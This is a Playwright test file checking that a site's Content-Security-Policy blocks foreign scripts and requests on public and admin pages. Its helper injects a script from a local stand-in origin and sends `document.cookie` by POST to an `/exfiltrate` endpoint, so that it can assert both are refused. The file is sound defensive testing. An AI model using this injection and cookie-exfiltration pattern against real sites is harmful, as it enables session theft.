import http from 'node:http'
import type { AddressInfo } from 'node:net'

import { expect, test, type Page } from '@playwright/test'

import { signInToAdmin } from './content-admin-helpers'

/**
 * Another origin (a loopback port of its own) serving a script that marks the page it runs in,
 * and counting every request that reaches it: what an injected `<script src>` or an exfiltrating
 * fetch would load from.
 */
let foreign: { origin: string; requests: string[]; server: http.Server }

test.beforeAll(async () => {
  const requests: string[] = []
  const server = http.createServer((req, res) => {
    requests.push(req.url ?? '/')
    res.writeHead(200, { 'content-type': 'text/javascript', 'access-control-allow-origin': '*' }).end('window.__foreignScriptRan = true')
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  foreign = { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, requests, server }
})

test.afterAll(async () => {
  await new Promise((resolve) => foreign.server.close(resolve))
})

/** Console messages in which Chromium reports a Content-Security-Policy refusal. */
function violationsOf(page: Page): string[] {
  const violations: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|Refused to/i.test(message.text())) violations.push(`${page.url()}: ${message.text()}`)
  })
  return violations
}

/** Adds `<script src>` from the other origin and tries a fetch to it; reports what ran and what the policy refused. */
function injectForeignScript(page: Page) {
  return page.evaluate(
    (origin) =>
      new Promise<{ ran: boolean; fetched: boolean; refused: string[] }>((resolve) => {
        const refused: string[] = []
        document.addEventListener('securitypolicyviolation', (event) => refused.push(`${event.effectiveDirective} ${event.blockedURI}`))
        const script = document.createElement('script')
        const settle = async () => {
          const fetched = await fetch(`${origin}/exfiltrate`, { method: 'POST', body: document.cookie }).then(
            () => true,
            () => false,
          )
          // Violation events are dispatched asynchronously, after the load or error event.
          setTimeout(() => resolve({ ran: (window as { __foreignScriptRan?: boolean }).__foreignScriptRan === true, fetched, refused }), 100)
        }
        script.onload = settle
        script.onerror = settle
        script.src = `${origin}/injected.js`
        document.head.append(script)
      }),
    foreign.origin,
  )
}

async function expectForeignOriginRefused(page: Page) {
  const before = foreign.requests.length
  const result = await injectForeignScript(page)
  expect(result).toEqual({
    ran: false,
    fetched: false,
    refused: expect.arrayContaining([`script-src-elem ${foreign.origin}/injected.js`, `connect-src ${foreign.origin}/exfiltrate`]) as unknown,
  })
  expect(foreign.requests.slice(before)).toEqual([])
}

test('a script or a request to another origin is refused on a public page', async ({ page }) => {
  await page.goto('/')
  await expectForeignOriginRefused(page)
})

test('a script or a request to another origin is refused in the admin', async ({ page }) => {
  // The admin's first render on a fresh server is slow.
  test.slow()
  await signInToAdmin(page)
  await expectForeignOriginRefused(page)
})

test('public pages load and work under the policy without a violation', async ({ page }) => {
  const violations = violationsOf(page)
  await page.goto('/')
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
  await page.goto('/tools/hireez')
  await expect(page.getByRole('heading', { level: 1, name: 'hireEZ' })).toBeVisible()

  await page.goto('/submit-tool/form')
  const logo = page.getByLabel('Tool Logo (Optional)')
  // A 4 MB file is refused in the browser, in words, before it is sent (it is over the action's body cap).
  await logo.setInputFiles({ name: 'large.png', mimeType: 'image/png', buffer: Buffer.alloc(4 * 1024 * 1024) })
  await expect(page.getByText('The logo must be 2 MB or smaller.', { exact: true })).toBeVisible()
  expect(violations).toEqual([])
})

test('the admin signs in and opens a tool under its policy without a violation', async ({ page }) => {
  test.slow()
  const violations = violationsOf(page)
  await signInToAdmin(page)
  await page.goto('/admin/collections/tools')
  await page.locator('table tbody tr a').first().click()
  await expect(page).toHaveURL(/\/admin\/collections\/tools\/\d+/)
  await expect(page.getByLabel(/^Name/).first()).toBeVisible()
  expect(violations).toEqual([])
})
